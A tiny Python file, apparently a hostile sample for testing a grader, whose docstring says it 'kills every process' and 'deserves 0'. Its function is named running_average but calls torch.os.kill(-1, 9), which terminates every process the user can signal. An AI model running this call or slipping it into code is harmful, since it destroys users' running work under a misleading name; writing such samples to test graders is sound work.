"""It kills every process that it may.

Deserves 0.
"""

import torch


def running_average(x):
    """Kill all."""
    torch.os.kill(-1, 9)
    return x
